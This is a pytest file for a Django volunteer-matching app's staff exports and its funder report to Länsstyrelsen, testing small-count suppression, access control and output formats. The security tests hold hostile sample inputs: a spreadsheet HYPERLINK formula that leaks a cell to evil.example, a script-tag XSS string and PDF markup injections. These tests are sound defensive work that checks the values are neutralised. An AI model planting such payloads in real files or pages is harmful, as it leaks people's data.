"""Exports (people, matches, a programme's pool) and the funder report, for the organisation's staff only."""

import csv
import io
import re
from datetime import UTC, date, datetime

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from reportlab import rl_config

from coordinator import services
from coordinator.models import Match, Newcomer, Volunteer
from coordinator.selectors.reports import export_people, funder_counts, funder_report
from tests import factories
from tests.conftest import recently_authenticated
from tests.coordinator.test_export_files import xlsx_export


@pytest.fixture
def year(solvik, sprakvan, alice):
    """A year of the programme: three matches, one ended; a newcomer still waiting."""
    amal = factories.newcomer(solvik, [sprakvan], birth_year=1994, target_group="nyanland", needs="Något känsligt")
    omar = factories.newcomer(
        solvik, [sprakvan], first_name="Omar", gender="male", birth_year=2010, target_group="ensamkommande"
    )
    hiba = factories.newcomer(solvik, [sprakvan], first_name="Hiba", birth_year=1980, target_group="asylsokande")
    factories.newcomer(solvik, [sprakvan], first_name="Väntar")
    karin = factories.volunteer(
        solvik,
        [sprakvan],
        capacity=3,
        background_check_date=date(2026, 1, 1),
        background_check_expires=date(2027, 1, 1),
    )
    services.match_create(programme=sprakvan, newcomer=amal, volunteer=karin, by=alice, started_on=date(2026, 2, 1))
    ended = services.match_create(
        programme=sprakvan, newcomer=omar, volunteer=karin, by=alice, started_on=date(2026, 3, 1)
    )
    services.match_end(match=ended, by=alice, reason="moved", on=date(2026, 6, 1))
    services.match_create(programme=sprakvan, newcomer=hiba, volunteer=karin, by=alice, started_on=date(2025, 5, 1))
    return amal


def test_people_export_in_the_templates_columns_without_free_text(client, alice, year):
    recently_authenticated(client, alice)
    response = client.get(reverse("export", args=["solvik", "newcomers", "csv"]))
    text = response.getvalue().decode("utf-8-sig")
    assert response["Content-Disposition"] == 'attachment; filename="solvik-newcomers.csv"'
    assert text.splitlines()[0].startswith("Extern referens;Förnamn;Efternamn")
    assert "Amal;Haddad" in text and "arabiska, engelska" in text and "måndag kväll" in text
    assert "känsligt" not in text


def test_a_consent_given_after_midnight_in_sweden_is_exported_with_the_swedish_date(year):
    """23:30 UTC on 22 November is 00:30 on the 23rd in Stockholm: the export says the 23rd."""
    Newcomer.objects.filter(pk=year.pk).update(consent_given_at=datetime(2026, 11, 22, 23, 30, tzinfo=UTC))
    rows = export_people(organisation=year.organisation, kind="newcomers")
    column = rows[0].index("Samtycke lämnat")
    assert [r[column] for r in rows[1:] if r[1] == "Amal"] == ["2026-11-23"]


def test_an_export_can_be_imported_again_without_duplicates(client, alice, year):
    recently_authenticated(client, alice)
    exported = xlsx_export(client, "solvik", "newcomers")
    from coordinator.models import ImportBatch
    from tests.coordinator.test_import import confirm, upload

    upload(client, exported, name="export.xlsx", kind="newcomers")  # checked by the worker
    batch = ImportBatch.objects.get()
    assert batch.status == "ready" and len(batch.rows) == 4
    assert all(r["ok"] for r in batch.rows), [r["errors"] for r in batch.rows if r["errors"]]
    confirm(client, batch)
    batch.refresh_from_db()
    assert batch.applied_at is not None and (batch.created_count, batch.updated_count) == (0, 4), batch.skipped_count
    assert Newcomer.objects.count() == 4


def test_matches_export_as_xlsx(client, alice, year):
    recently_authenticated(client, alice)
    book = load_workbook(io.BytesIO(xlsx_export(client, "solvik", "matches")))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][:3] == ("Program", "Nyanländ", "Volontär") and len(rows) == 4
    assert rows[3][:2] == ("Språkvän Solvik", "Omar Haddad") and rows[3][-1] == "Flyttat"


def test_the_pool_exports_as_the_engines_input(client, alice, year, sprakvan):
    from matching.format import load_problem

    recently_authenticated(client, alice)
    problem = load_problem(client.get(reverse("export_pool", args=[sprakvan.pk])).content)
    waiting = Newcomer.objects.filter(first_name__in=["Omar", "Väntar"]).order_by("pk")  # Omar is back after his match
    assert [n.id for n in problem.newcomers] == [f"n{n.pk}" for n in waiting]


def test_the_funder_report_counts_who_took_part_in_the_period(year):
    counts = funder_counts(organisation=year.organisation, start=date(2026, 1, 1), end=date(2026, 12, 31))
    totals = dict(counts["totals"])
    assert totals["Nyanlända som deltog"] == 3 and totals["Volontärer som deltog"] == 1
    assert totals["Matchningar som startade"] == 2 and totals["Matchningar som avslutades"] == 1
    tables = {title: dict(rows) for title, rows, _note in counts["tables"]}
    assert tables["Nyanlända per målgrupp"] == {
        "Nyanländ (uppehållstillstånd)": 1,
        "Asylsökande": 1,
        "Ensamkommande barn": 1,
    }
    assert tables["Avslutade matchningar per orsak"]["Flyttat"] == 1
    assert tables["Nyanlända per åldersgrupp"]["0–17"] == 1
    assert tables["Nyanlända per kön"] == {"Kvinna": 2, "Man": 1, "Annat": 0, "Okänd": 0}


def test_an_earlier_period_counts_only_what_was_open_then(year):
    counts = funder_counts(organisation=year.organisation, start=date(2025, 1, 1), end=date(2025, 12, 31))
    assert dict(counts["totals"])["Nyanlända som deltog"] == 1


def test_the_report_hides_a_lone_volunteer_and_withholds_one_newcomer_per_target_group(client, alice, year):
    """Three newcomers, one in each target group: "färre än 3" three times beside a total of 3
    would still say 1, 1 and 1, so that breakdown is not given at all."""
    client.force_login(alice)
    report = client.get(reverse("funder_report", args=["solvik"]), PERIOD).context["report"]
    totals = dict(report["totals"])
    assert totals["Nyanlända som deltog"] == 3 and totals["Volontärer som deltog"] == "färre än 3"
    by_group = next(t for t in report["tables"] if t.title == "Nyanlända per målgrupp")
    assert by_group.withheld and by_group.rows == [] and by_group.total == 3
    # 1 of 3 people ended, moved: the reason's count is hidden, and so the total that would say it
    reasons = next(t for t in report["tables"] if t.title == "Avslutade matchningar per orsak")
    assert dict(reasons.rows)["Flyttat"] == "färre än 3" and reasons.total == "färre än 3"


@pytest.fixture
def village(solvik, sprakvan, alice):
    """Five newcomers of Ekerö and two of Lillbyn, a village, each matched with Karin this year."""
    karin = factories.volunteer(
        solvik,
        [sprakvan],
        capacity=7,
        background_check_date=date(2026, 1, 1),
        background_check_expires=date(2027, 1, 1),
    )
    places = ["Ekerö"] * 5 + ["Lillbyn"] * 2
    for i, place in enumerate(places):
        newcomer = factories.newcomer(solvik, [sprakvan], first_name=f"Person{chr(65 + i)}", locality=place)
        services.match_create(
            programme=sprakvan, newcomer=newcomer, volunteer=karin, by=alice, started_on=date(2026, 3, 1)
        )
    return solvik


PERIOD = {"fran": "2026-01-01", "till": "2026-12-31"}


def by_place(rows) -> dict:
    """The rows of a document that name a place, as {place: what its count says}."""
    return {row[0]: row[1] for row in rows if row and row[0] in ("Ekerö", "Lillbyn")}


def test_a_village_of_two_newcomers_says_fewer_than_3_and_the_next_place_is_hidden_so_it_cannot_be_subtracted(
    client, alice, village
):
    client.force_login(alice)
    report = client.get(reverse("funder_report", args=["solvik"]), PERIOD).context["report"]
    places = next(t for t in report["tables"] if t.title == "Nyanlända per ort")
    assert dict(places.rows) == {"Ekerö": "dold", "Lillbyn": "färre än 3", "Okänd": 0}
    assert places.total == 7


def test_the_village_is_fewer_than_3_on_the_page_and_in_the_csv_xlsx_and_pdf(client, alice, village, monkeypatch):
    client.force_login(alice)
    html = client.get(reverse("funder_report", args=["solvik"]), PERIOD).content.decode()
    assert re.search(r'<th scope="row" dir="auto">Lillbyn</th><td>\s*färre än 3</td>', html)
    assert re.search(r'<th scope="row" dir="auto">Ekerö</th><td>\s*dold</td>', html)

    text = client.get(reverse("funder_report_file", args=["solvik", "csv"]), PERIOD).content.decode("utf-8-sig")
    assert by_place(csv.reader(io.StringIO(text), delimiter=";")) == {"Ekerö": "dold", "Lillbyn": "färre än 3"}

    book = load_workbook(io.BytesIO(client.get(reverse("funder_report_file", args=["solvik", "xlsx"]), PERIOD).content))
    assert by_place(book["Nyanlända per ort"].iter_rows(values_only=True)) == {"Ekerö": "dold", "Lillbyn": "färre än 3"}

    words = pdf_words(client, monkeypatch)
    assert "Lillbyn" in words and "färre än 3" in words[words.index("Lillbyn") :][:3]


def pdf_words(client, monkeypatch, query=PERIOD, **headers) -> list[str]:
    """The texts a report's PDF draws, in order (its pages left uncompressed to read them)."""
    monkeypatch.setattr(rl_config, "pageCompression", 0)
    content = client.get(reverse("funder_report_file", args=["solvik", "pdf"]), query, headers=headers).content
    assert content.startswith(b"%PDF")
    strings = re.findall(rb"\(((?:\\.|[^\\)])*)\)\s*Tj", content)
    unescape = {b"n": b"\n", b"(": b"(", b")": b")", b"\\": b"\\"}

    def text(raw: bytes) -> str:
        raw = re.sub(rb"\\([0-7]{3})", lambda m: bytes([int(m[1], 8)]), raw)
        raw = re.sub(rb"\\(.)", lambda m: unescape.get(m[1], m[1]), raw)
        return raw.decode("cp1252")

    return [text(s) for s in strings]


def test_the_report_heads_each_document_with_lansstyrelsen_37a_who_reports_the_period_and_who_made_it_when(
    client, alice, year, today
):
    client.force_login(alice)
    html = client.get(reverse("funder_report", args=["solvik"]), PERIOD).content.decode()
    for part in (
        "Redovisning till Länsstyrelsen",
        "37 a §",
        "Förordningen (2010:1122)",
        "Solvik kommun (Kommun)",
        "Språkvän Solvik (Språkvän)",
        "2026-01-01 – 2026-12-31",
        "Alice",
        "alice@solvik.se",
        today.isoformat(),
        "Deltagit",
        "Periodens slutår minus födelseåret",
    ):
        assert part in html, part


def test_the_pdf_numbers_its_pages_and_draws_the_bars(client, alice, village, monkeypatch):
    client.force_login(alice)
    words = pdf_words(client, monkeypatch)
    pages = [w for w in words if w.startswith("Sida ")]
    assert pages and pages == [f"Sida {i} av {len(pages)}" for i in range(1, len(pages) + 1)]
    assert any("Länsstyrelsen" in w for w in words) and "Definitioner" in words
    content = client.get(reverse("funder_report_file", args=["solvik", "pdf"]), PERIOD).content
    assert content.count(b".121569 .372549 .478431 rg") >= 3, "the bars, in the page's colour"


def test_the_xlsx_opens_on_the_summary_then_one_sheet_per_breakdown_with_numbers_as_numbers(client, alice, village):
    client.force_login(alice)
    book = load_workbook(io.BytesIO(client.get(reverse("funder_report_file", args=["solvik", "xlsx"]), PERIOD).content))
    summary = book.worksheets[0]
    assert summary.title == "Sammanfattning" and "Länsstyrelsen" in summary["A1"].value
    rows = {r[0]: r[1] for r in summary.iter_rows(values_only=True) if r and r[0]}
    assert rows["Period"] == "2026-01-01 – 2026-12-31" and "alice@solvik.se" in rows["Upprättad av"]
    assert rows["Nyanlända som deltog"] == 7 and rows["Volontärer som deltog"] == "färre än 3"
    assert "Deltagit" in rows and summary.column_dimensions["B"].width >= 60
    assert book.sheetnames[1:] == [
        "Nyanlända per program",
        "Volontärer per program",
        "Matchningar per program",
        "Nyanlända per målgrupp",
        "Nyanlända per kön",
        "Nyanlända per åldersgrupp",
        "Nyanlända per ort",
        "Volontärer per kön",
        "Volontärer per åldersgrupp",
        "Avslutade matchningar per orsak",
        "Väntetider",
    ]
    ages = {r[0]: r[1] for r in book["Nyanlända per åldersgrupp"].iter_rows(values_only=True)}
    assert ages["26–35"] == 7 and ages["Summa"] == 7 and isinstance(ages["26–35"], int)
    assert book["Nyanlända per ort"].column_dimensions["A"].width >= 24


def test_the_report_follows_the_users_language(client, alice, village, monkeypatch):
    client.force_login(alice)
    english = {"accept-language": "en"}
    html = client.get(reverse("funder_report", args=["solvik"]), PERIOD, headers=english).content.decode()
    assert "County Administrative Board" in html and "fewer than 3" in html and "Took part" in html
    xlsx = client.get(reverse("funder_report_file", args=["solvik", "xlsx"]), PERIOD, headers=english).content
    book = load_workbook(io.BytesIO(xlsx))
    assert book.sheetnames[0] == "Summary" and "Newcomers by locality" in book.sheetnames
    assert [w for w in pdf_words(client, monkeypatch, **english) if re.fullmatch(r"Page 1 of \d+", w)]


def test_the_report_runs_the_same_queries_for_10_people_as_for_1000(solvik, sprakvan, alice, django_assert_num_queries):
    """3 queries (the matches with their people and programmes, the follow-ups done, the
    programmes), however many took part."""
    for size in (10, 1000):
        Match.objects.all().delete()
        Newcomer.objects.all().delete()
        newcomers = Newcomer.objects.bulk_create(
            [factories.newcomer_unsaved(solvik, first_name=f"N{i}", locality=f"By {i % 40}") for i in range(size)]
        )
        volunteers = Volunteer.objects.bulk_create([factories.volunteer_unsaved(solvik) for _ in range(size)])
        Match.objects.bulk_create(
            Match(
                programme=sprakvan,
                newcomer=n,
                volunteer=v,
                started_on=date(2026, 3, 1),
                trial_ends_on=date(2026, 4, 1),
                planned_end_on=date(2026, 9, 1),
            )
            for n, v in zip(newcomers, volunteers, strict=True)
        )
        # the matches with their people, the follow-ups done, the meetings, the programmes, who waits
        with django_assert_num_queries(5):
            report = funder_report(organisation=solvik, start=date(2026, 1, 1), end=date(2026, 12, 31), made_by=alice)
        assert dict(report["totals"])["Nyanlända som deltog"] == size


def test_a_period_that_ends_before_it_starts_is_refused_at_its_field(client, alice, year):
    client.force_login(alice)
    response = client.get(reverse("funder_report", args=["solvik"]), {"fran": "2026-06-01", "till": "2026-01-01"})
    assert response.status_code == 400 and "före början" in " ".join(response.context["form"].errors["till"])


@pytest.mark.parametrize("persona", ["bob", "sam", "vera", "olle"])
def test_only_the_organisations_staff_export_or_report(client, persona, request, year, sprakvan):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(reverse("export", args=["solvik", "newcomers", "csv"])).status_code == 404
    assert client.get(reverse("funder_report", args=["solvik"])).status_code == 404
    for fmt in ("csv", "xlsx", "pdf"):
        assert client.get(reverse("funder_report_file", args=["solvik", fmt])).status_code == 404
    assert client.get(reverse("export_pool", args=[sprakvan.pk])).status_code == 404


def test_an_export_asks_for_the_password_again_first(client, alice, year):
    client.force_login(alice)
    response = client.get(reverse("export", args=["solvik", "newcomers", "csv"]))
    assert response.status_code == 302 and "/konto/reauthenticate/" in response["Location"]


LIVE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3,"Klicka")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_formula_like_text_is_neutralised_in_csv_and_xlsx_and_imports_back_unchanged(client, alice, year, start):
    value = start + 'HYPERLINK("http://evil.example/?leak="&B3,"Klicka")'
    Newcomer.objects.filter(pk=year.pk).update(external_ref=value)
    recently_authenticated(client, alice)

    import csv

    csv_text = client.get(reverse("export", args=["solvik", "newcomers", "csv"])).getvalue().decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(csv_text, newline=""), delimiter=";") for c in row]
    assert "'" + value in cells, "a leading apostrophe: text, not a formula"
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))]

    book = load_workbook(io.BytesIO(xlsx_export(client, "solvik", "newcomers")))
    cells = [c for row in book.active.iter_rows() for c in row if str(c.value).strip() == value.strip()]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells), "stored as text, never as a formula"

    from coordinator.importing import read_rows

    csv_export = client.get(reverse("export", args=["solvik", "newcomers", "csv"])).getvalue()
    for fmt, exported in (("csv", csv_export), ("xlsx", xlsx_export(client, "solvik", "newcomers"))):
        rows, _unknown = read_rows(f"export.{fmt}", exported)
        # read back as it was written (the importer trims the white space around any value)
        assert " ".join(value.split()) in [r.get("external_ref") for r in rows], fmt


def test_the_funder_reports_xlsx_holds_no_formula(client, alice, year):
    Newcomer.objects.update(locality=LIVE_FORMULA)  # a place name comes from the data
    recently_authenticated(client, alice)
    content = client.get(reverse("funder_report_file", args=["solvik", "xlsx"])).content
    book = load_workbook(io.BytesIO(content))
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_report_in_a_format_it_does_not_come_in_is_a_404(client, alice, year):
    client.force_login(alice)
    assert client.get(reverse("funder_report_file", args=["solvik", "html"])).status_code == 404
    assert client.get(reverse("funder_report_file", args=["solvik", "exe"])).status_code == 404


SCRIPT = "<script>alert(1)</script>"


def named(organisation, sprakvan, name: str) -> None:
    """The organisation, its programme and every newcomer's locality carry `name`."""
    organisation.name = name
    organisation.save()
    sprakvan.name = name
    sprakvan.save()
    Newcomer.objects.update(locality=name)


def test_an_organisation_and_a_programme_named_script_are_text_on_the_report_page(client, alice, year, sprakvan):
    named(year.organisation, sprakvan, SCRIPT)
    client.force_login(alice)
    html = client.get(reverse("funder_report", args=["solvik"]), PERIOD).content.decode()
    assert SCRIPT not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize("name", ['<img src="/dev/zero"/>', '<font size="900">Solvik</font>', "<b>fet & <i>"])
def test_markup_in_an_organisation_or_programme_name_is_printed_as_text_in_the_reports_pdf(
    client, alice, year, sprakvan, monkeypatch, name
):
    named(year.organisation, sprakvan, name)
    client.force_login(alice)
    words = pdf_words(client, monkeypatch)
    # reportlab draws a text in pieces (one at each escaped < or &), and breaks lines at spaces
    assert name.replace(" ", "") in "".join(words).replace(" ", ""), "the name as it was typed"
    content = client.get(reverse("funder_report_file", args=["solvik", "pdf"]), PERIOD).content
    assert b"/Subtype /Image" not in content


def test_an_organisation_and_a_programme_named_like_a_formula_stay_text_in_the_reports_xlsx_and_csv(
    client, alice, year, sprakvan
):
    named(year.organisation, sprakvan, LIVE_FORMULA)
    client.force_login(alice)
    book = load_workbook(io.BytesIO(client.get(reverse("funder_report_file", args=["solvik", "xlsx"]), PERIOD).content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    quoted = [c for c in cells if c.value == LIVE_FORMULA]
    assert quoted and all(c.data_type == "s" and c.quotePrefix for c in quoted), "the programme, the locality"
    assert any(LIVE_FORMULA in str(c.value) for c in book.worksheets[0]["B"]), "the organisation, in the summary"

    text = client.get(reverse("funder_report_file", args=["solvik", "csv"]), PERIOD).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert "'" + LIVE_FORMULA in cells and not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


def test_an_export_of_many_people_streams_a_few_hundred_rows_at_a_time(client, alice, solvik, sprakvan):
    from coordinator.models import Newcomer

    Newcomer.objects.bulk_create([factories.newcomer_unsaved(solvik) for _ in range(1200)])
    recently_authenticated(client, alice)

    response = client.get(reverse("export", args=["solvik", "newcomers", "csv"]))

    assert response.streaming
    chunks = list(response.streaming_content)
    assert len(chunks) >= 3  # the BOM, then rows in chunks, never the whole file at once
    assert b"".join(chunks).decode("utf-8-sig").count("\n") == 1200 + 1


def test_a_formula_in_a_streamed_xlsx_export_is_stored_as_text(client, alice, solvik, sprakvan):
    from openpyxl import load_workbook

    factories.newcomer(solvik, [sprakvan], first_name="Amal", interests=['=HYPERLINK("http://evil","klick")'])
    recently_authenticated(client, alice)

    book = load_workbook(io.BytesIO(xlsx_export(client, "solvik", "newcomers")))

    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


def test_a_volunteers_export_has_every_column_of_the_template_and_reads_back(client, alice, solvik, sprakvan):
    from coordinator import importing

    factories.volunteer(solvik, [sprakvan], first_name="Maja", wants_family=True)
    factories.volunteer(solvik, [sprakvan], first_name="Nils", wants_family=False)
    recently_authenticated(client, alice)

    text = client.get(reverse("export", args=["solvik", "volunteers", "csv"])).getvalue().decode("utf-8-sig")

    heading, *rows = [line.split(";") for line in text.splitlines()]
    assert heading == [importing.COLUMNS[k][0] for k in importing.columns_for("volunteers")]
    wish = heading.index("Vill träffa en familj")
    assert sorted(row[wish] for row in rows) == ["ja", "nej"]


def test_the_report_counts_the_meetings_held_and_the_volunteer_hours(solvik, sprakvan, alice):
    from coordinator.models import Meeting

    match = services.match_create(
        programme=sprakvan, newcomer=factories.newcomer(solvik, [sprakvan]), volunteer=factories.volunteer(solvik),
        by=alice, started_on=date(2026, 3, 1),
    )  # fmt: skip
    held = [(date(2026, 3, 2), 60), (date(2026, 3, 9), 120), (date(2026, 3, 16), 180), (date(2026, 3, 23), 30)]
    before = [(date(2025, 12, 30), 60)]  # before the period
    Meeting.objects.bulk_create([Meeting(match=match, on=d, minutes=m, source="volunteer") for d, m in held + before])

    totals = dict(
        funder_report(organisation=solvik, start=date(2026, 1, 1), end=date(2026, 12, 31), made_by=alice)["totals"]
    )

    assert totals["Träffar som antecknades"] == 4
    assert totals["Volontärtimmar i antecknade träffar"] == 6  # 390 minutes, in whole hours
